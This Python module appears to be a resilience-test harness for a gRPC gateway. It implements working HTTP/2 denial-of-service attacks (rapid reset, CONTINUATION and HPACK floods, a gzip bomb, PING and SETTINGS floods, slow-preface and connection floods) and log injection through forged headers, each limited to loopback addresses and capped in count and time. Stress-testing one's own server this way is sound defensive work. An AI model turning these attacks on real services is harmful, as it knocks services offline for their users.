"""The attacks: what a hostile or broken peer can do with sockets alone. Each is bounded in count and in time.

    attacks.py NAME TARGET_JSON       runs one of them and prints what the peer saw as one line of JSON

TARGET_JSON: {"address": "127.0.0.1:PORT", "admin": "127.0.0.1:PORT" or "", "tls": bool, "token": str, "count": int,
"seconds": float, "seed": int}. `count` is the number of streams, frames or connections; the peer gives up earlier when
`seconds` are over or every connection is closed by the server. Only addresses of loopback are attacked.
"""

import dataclasses
import gzip
import json
import random
import struct
import sys
import time

import h2

TASKS = b"/seedance.gateway.v1.GenerationTaskService/"
GROUPS = b"/seedance.gateway.v1.AssetGroupService/"
ASSETS = b"/seedance.gateway.v1.AssetService/"
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
HEALTH_WATCH = b"/grpc.health.v1.Health/Watch"

# Every unary method, with the kind of its first string field: `name` is field 1, `nested` is field 1 of a message that
# is field 1.
UNARY = [(TASKS + name, kind) for name, kind in (
    (b"CreateGenerationTask", "nested"), (b"GetGenerationTask", "name"), (b"ListGenerationTasks", "page_token"),
    (b"CancelGenerationTask", "name"), (b"DeleteGenerationTask", "name"), (b"ReconcileGenerationTask", "name"))]
UNARY += [(GROUPS + name + b"AssetGroup", kind) for name, kind in (
    (b"Create", "nested"), (b"Get", "name"), (b"Update", "nested"), (b"Delete", "name"))]
UNARY += [(GROUPS + b"ListAssetGroups", "page_token")]
UNARY += [(ASSETS + name, kind) for name, kind in (
    (b"CreateAsset", "nested"), (b"BatchCreateAssets", "nested"), (b"GetAsset", "name"), (b"ListAssets", "page_token"),
    (b"UpdateAsset", "nested"), (b"DeleteAsset", "name"))]

# Attackers have an address of their own: limits of one address must not hit the honest client.
SOURCE = "127.0.0.2"

ATTACKS = {}


@dataclasses.dataclass
class Attack:
    run: object
    count: int  # Of the long form.
    small: int  # Of the short form.
    holds: bool  # Keeps its streams or connections open until the time is over.
    needs: str  # `lists`: tasks to list; `admin`: the admin server; else empty.


def attack(name, count, small, holds=False, needs=""):
    def register(function):
        ATTACKS[name] = Attack(function, count, small, holds, needs)
        return function
    return register


class Target:
    """Whom to attack and how long; counts what the peer saw."""

    def __init__(self, values):
        host, port = values["address"].rsplit(":", 1)
        self.address = (host, int(port))
        self.admin = values["admin"]
        self.tls = values["tls"]
        self.token = values["token"]
        self.count = values["count"]
        self.deadline = time.monotonic() + values["seconds"]
        self.random = random.Random(values["seed"])
        self.peers = []
        self.sent = 0
        self.connections = 0
        self.refused = 0
        if not host.startswith("127."):
            raise ValueError(f"{host} is not an address of loopback")

    def left(self):
        return max(0.0, self.deadline - time.monotonic())

    def peer(self, **options):
        peer = h2.Peer(self.address, tls=self.tls, source=SOURCE, **options)
        self.peers.append(peer)
        self.connections += 1
        return peer

    def block(self, path, token=False, headers=()):
        if token:
            headers = [(b"authorization", b"Bearer " + self.token.encode()), *headers]
        return h2.request_block(path, headers, scheme=b"https" if self.tls else b"http")

    def rounds(self, peers, step, count=None):
        """Calls `step(peer)` for the peers in turns, `count` times in all; a peer whose connection is gone is left out.
        """
        peers = list(peers)
        count = self.count if count is None else count
        while peers and count > 0 and self.left() > 0:
            for peer in list(peers):
                try:
                    if peer.closed:
                        raise ConnectionError
                    sent = step(peer)
                    self.sent += sent
                    count -= sent
                except OSError:
                    peers.remove(peer)
                if count <= 0 or self.left() <= 0:
                    break

    def hold(self):
        """Keeps everything open until the time is over, or the server has closed all of it."""
        for peer in self.peers:
            peer.wait(lambda: False, self.left())

    def report(self):
        return {
            "sent": self.sent,
            "connections": self.connections,
            "closed": sum(peer.closed for peer in self.peers) + self.refused,
            "ended": sum(peer.ended for peer in self.peers),
            "resets": sum(peer.counts[h2.RST_STREAM] for peer in self.peers),
            "goaways": sum(peer.counts[h2.GOAWAY] for peer in self.peers),
            "bytes": sum(peer.data_bytes for peer in self.peers),
        }


def string_field(number, value):
    """A length-delimited field of a protobuf message; `number` is below 16."""
    return bytes([number << 3 | 2]) + varint(len(value)) + value


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


def open_streams(target, path, connections, token=False, batch=50, **options):
    """Opens `count` streams that are never ended, over several connections."""
    block = target.block(path, token)
    def step(peer):
        peer.send(b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, peer.new_stream(), block) for _ in range(batch)))
        return batch
    target.rounds([target.peer(**options) for _ in range(connections)], step)
    target.hold()


@attack("reflection streams", 3000, 200, holds=True)
def reflection_streams(target):
    open_streams(target, REFLECTION, 3)


@attack("reflection streams, token", 3000, 200, holds=True)
def reflection_streams_token(target):
    open_streams(target, REFLECTION, 3, token=True)


@attack("streams without token", 300_000, 2000, holds=True)
def streams_without_token(target):
    open_streams(target, TASKS + b"GetGenerationTask", 8, batch=250)


@attack("health watches", 5000, 300, holds=True)
def health_watches(target):
    block = target.block(HEALTH_WATCH)
    target.rounds([target.peer() for _ in range(4)], lambda peer: peer.call(block) and 1)
    target.hold()


@attack("SETTINGS never acknowledged", 50_000, 1000, holds=True)
def settings_never_acknowledged(target):
    open_streams(target, TASKS + b"GetGenerationTask", 1, batch=250, acknowledge=False)


@attack("lists never read", 1500, 60, holds=True, needs="lists")
def lists_never_read(target):
    block = target.block(TASKS + b"ListGenerationTasks", token=True)
    page = b"\x08" + varint(200)
    peers = [target.peer(client_settings=[(h2.INITIAL_WINDOW_SIZE, 0)], acknowledge=False) for _ in range(3)]
    target.rounds(peers, lambda peer: peer.call(block, page) and 1)
    target.hold()


@attack("lists never read, socket", 1500, 60, holds=True, needs="lists")
def lists_never_read_from_socket(target):
    """The windows are wide open, but nothing is taken from the socket."""
    block = target.block(TASKS + b"ListGenerationTasks", token=True)
    page = b"\x08" + varint(200)
    peers = [target.peer(client_settings=[(h2.INITIAL_WINDOW_SIZE, 0x7fffffff)], read=False) for _ in range(3)]
    for peer in peers:
        peer.send(h2.window_update(0, 0x7fffffff - h2.DEFAULT_WINDOW))
    target.rounds(peers, lambda peer: peer.call(block, page) and 1)
    target.hold()


@attack("lists flood", 20_000, 100, needs="lists")
def lists_flood(target):
    """As many lists as the server answers, a hundred under way on each connection, and all answers are read."""
    block = target.block(TASKS + b"ListGenerationTasks", token=True)
    page = b"\x08" + varint(200)
    peers = [target.peer(client_settings=[(h2.INITIAL_WINDOW_SIZE, 1 << 24)]) for _ in range(4)]
    for peer in peers:
        peer.send(h2.window_update(0, 1 << 30))
    calls = dict.fromkeys(peers, 0)
    def step(peer):
        if not peer.wait(lambda: calls[peer] - peer.ended < 100, min(0.05, target.left())):
            return 0
        calls[peer] += 1
        return peer.call(block, page) and 1
    target.rounds(peers, step)
    for peer in peers:
        peer.wait(lambda peer=peer: peer.ended >= calls[peer], target.left())


def unfinished_messages(target, token):
    """Messages of 5 MiB of which the last byte never comes."""
    block = target.block(ASSETS + b"CreateAsset", token)
    size = (5 << 20) - 16
    data = h2.message(bytes(size - 1), declared_size=size)
    peers = [target.peer() for _ in range(8)]
    def step(peer):
        return 1 if peer.send_data(peer.open(block), data, target.deadline) == len(data) else 0
    target.rounds(peers, step)
    target.hold()


@attack("unfinished 5 MiB messages", 400, 16, holds=True)
def unfinished_messages_without_token(target):
    unfinished_messages(target, token=False)


@attack("unfinished 5 MiB messages, token", 400, 16, holds=True)
def unfinished_messages_with_token(target):
    unfinished_messages(target, token=True)


@attack("gzip bomb", 40, 4)
def gzip_bomb(target):
    # 200 MiB of zeros in 200 kB, before any token is asked for.
    bomb = gzip.compress(bytes(200 << 20), 9)
    block = h2.request_block(b"/grpc.health.v1.Health/Check", [(b"grpc-encoding", b"gzip")],
                             scheme=b"https" if target.tls else b"http")
    def step(peer):
        peer.send_data(peer.open(block), struct.pack(">BI", 1, len(bomb)) + bomb, target.deadline)
        return 1
    target.rounds([target.peer() for _ in range(4)], step)


def endless_block(target, first, unit, connections=4):
    """Header blocks that never end: HEADERS, then CONTINUATION frames full of `unit`. A peer whose connection is closed
    comes back."""
    frames = h2.frame(h2.CONTINUATION, 0, 1, unit * (16384 // len(unit))) * 16
    peers = [None] * connections
    def step(place):
        try:
            if peers[place.number] is None or peers[place.number].closed:
                peers[place.number] = target.peer()
                peers[place.number].open(first, flags=0)
            peers[place.number].send(frames)
        except OSError:
            peers[place.number] = None
        return 16
    target.rounds([Place(number) for number in range(connections)], step)


class Place:
    """A turn of `rounds` whose peer may be replaced."""
    closed = False

    def __init__(self, number=0):
        self.number = number


@attack("CONTINUATION flood", 60_000, 500)
def continuation_flood(target):
    # Index 16 of the static table, `accept-encoding: gzip, deflate`: one byte in the block, many in memory.
    endless_block(target, target.block(TASKS + b"GetGenerationTask"), b"\x90", connections=8)


@attack("endless HPACK integers", 20_000, 200)
def endless_hpack_integers(target):
    # The length of a name, whose continuation bytes add zero for ever.
    endless_block(target, target.block(TASKS + b"GetGenerationTask") + b"\x00\x7f", b"\x80")


@attack("endless header string", 60_000, 500)
def endless_header_string(target):
    # A value that says it has 2 GB.
    first = target.block(TASKS + b"GetGenerationTask") + b"\x00" + h2.text(b"x-junk") + h2.integer(0x7fffff00, 7)
    endless_block(target, first, b"j")


@attack("CONTINUATION flood of small frames", 200_000, 1000)
def continuation_flood_of_small_frames(target):
    peers = [target.peer() for _ in range(4)]
    for peer in peers:
        peer.open(target.block(TASKS + b"GetGenerationTask"), flags=0)
    def step(peer):
        peer.send(h2.frame(h2.CONTINUATION, 0, peer.next_stream - 2) * 250)
        return 250
    target.rounds(peers, step)


def reset_streams(target, token):
    block = target.block(TASKS + b"GetGenerationTask", token)
    def step(peer):
        streams = [peer.new_stream() for _ in range(100)]
        peer.send(b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block) + h2.rst_stream(stream)
                           for stream in streams))
        return len(streams)
    target.rounds([target.peer() for _ in range(4)], step)


@attack("rapid reset", 200_000, 2000)
def rapid_reset(target):
    reset_streams(target, token=False)


@attack("rapid reset, token", 200_000, 2000)
def rapid_reset_with_token(target):
    reset_streams(target, token=True)


def frames_never_read(target, frames, repeat, **options):
    peers = [target.peer(read=False, timeout=2, **options) for _ in range(4)]
    data = frames * repeat
    def step(peer):
        peer.send(data)
        return repeat
    target.rounds(peers, step)
    target.hold()


@attack("PING flood", 1_000_000, 10_000, holds=True)
def ping_flood(target):
    frames_never_read(target, h2.frame(h2.PING, 0, 0, b"floodped"), 1000)


@attack("SETTINGS flood", 1_000_000, 10_000, holds=True)
def settings_flood(target):
    frames_never_read(target, h2.settings([(h2.INITIAL_WINDOW_SIZE, 65535)]), 1000)


@attack("empty DATA frames", 1_000_000, 10_000)
def empty_data_frames(target):
    block = target.block(TASKS + b"GetGenerationTask")
    peers = [target.peer() for _ in range(2)]
    frames = {peer: h2.frame(h2.DATA, 0, peer.open(block)) * 1000 for peer in peers}
    def step(peer):
        peer.send(frames[peer])
        return 1000
    target.rounds(peers, step)


@attack("slow prefaces", 2000, 100, holds=True)
def slow_prefaces(target):
    """Connections that send a byte of the preface a second. With TLS it is a ClientHello that never comes."""
    connections = open_connections(target)
    for byte in h2.PREFACE:
        if target.left() <= 0:
            break
        for connection in connections:
            try:
                connection.send(bytes([byte]))
            except OSError:
                pass
        time.sleep(min(1, target.left()))
    count_closed(target, connections)


@attack("connection flood", 15_000, 300, holds=True)
def connection_flood(target):
    connections = open_connections(target)
    time.sleep(target.left())
    count_closed(target, connections)


def open_connections(target):
    connections = []
    while len(connections) < target.count and target.left() > 0:
        try:
            connections.append(h2.connect(target.address, timeout=2, source=SOURCE))
        except OSError:
            target.refused += 1
            if target.refused > 50:
                break
    target.connections = target.sent = len(connections)
    return connections


def count_closed(target, connections):
    for connection in connections:
        try:
            target.refused += connection.recv(1 << 16) == b""
        except BlockingIOError:
            pass
        except OSError:
            target.refused += 1


FORGED = '{"severity":"ERROR","message":"forged by a peer"}'


@attack("junk in headers", 2000, 200)
def junk_in_headers(target):
    """Line ends and control characters in every header that a server may log."""
    junk = b"x\r\n" + FORGED.encode() + b"\n\x1b[31m\x00\xff"
    names = (b"user-agent", b"x-request-id", b"traceparent", b"authorization", b"grpc-timeout", b"grpc-encoding", b"te",
             b"content-type", b"x-forwarded-for")
    peer = [target.peer()]
    def step(_):
        if peer[0].closed:
            peer[0] = target.peer()
        name = target.random.choice(names)
        value = junk if target.random.random() < 0.7 else target.random.randbytes(target.random.randrange(1, 400))
        path = TASKS + (b"GetGenerationTask" if target.random.random() < 0.8 else b"x\n" + FORGED.encode())
        try:
            peer[0].call(target.block(path, headers=[(name, value)]), string_field(1, b"generationTasks/x"))
        except OSError:
            pass
        time.sleep(0.001)
        return 1
    target.rounds([Place()], step)


@attack("bad UTF-8", 10_000, 340)
def bad_utf8(target):
    """Strings that are not UTF-8 in every unary method, with a token."""
    bad = b"generationTasks/\xff\xfe\xc0\x80\n" + FORGED.encode()
    peer = target.peer()
    calls = [0]
    def step(_):
        for path, kind in UNARY:
            field = {"name": string_field(1, bad), "page_token": string_field(2, bad),
                     "nested": string_field(1, string_field(1, bad) + string_field(4, bad))}[kind]
            peer.call(target.block(path, token=True), field)
        calls[0] += len(UNARY)
        peer.wait(lambda: calls[0] - peer.ended < 200, target.left())
        return len(UNARY)
    target.rounds([peer], step)
    peer.wait(lambda: peer.ended >= calls[0], target.left())


@attack("half-sent admin requests", 500, 60, holds=True, needs="admin")
def half_sent_admin_requests(target):
    host, port = target.admin.rsplit(":", 1)
    target.address = (host, int(port))
    connections = open_connections(target)
    for number, connection in enumerate(connections):
        try:
            connection.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Half: " if number % 2 else
                            b"POST /webhooks/anyfast/x HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n{")
        except OSError:
            pass
    time.sleep(target.left())
    count_closed(target, connections)


def seed_tasks(target, number):
    """Creates tasks with long prompts, for lists that are worth reading. Returns how many were answered."""
    block = target.block(TASKS + b"CreateGenerationTask", token=True)
    prompt = "长".encode() * 3900
    peer = target.peer()
    for index in range(number):
        request_id = f"00000000-0000-4000-9000-{index:012d}".encode()
        peer.send_call(block, string_field(1, string_field(4, prompt)) + string_field(2, request_id), target.deadline)
        peer.wait(lambda index=index: index + 1 - peer.ended < 20, target.left())
    peer.wait(lambda: peer.ended >= number, target.left())
    return peer.ended


def main():
    name, values = sys.argv[1:]
    target = Target(json.loads(values))
    if name == "seed tasks":
        print(json.dumps({"created": seed_tasks(target, target.count)}))
        return
    try:
        ATTACKS[name].run(target)
    except OSError as error:
        print(f"{name}: {error}", file=sys.stderr)
    print(json.dumps(target.report()))


if __name__ == "__main__":
    main()
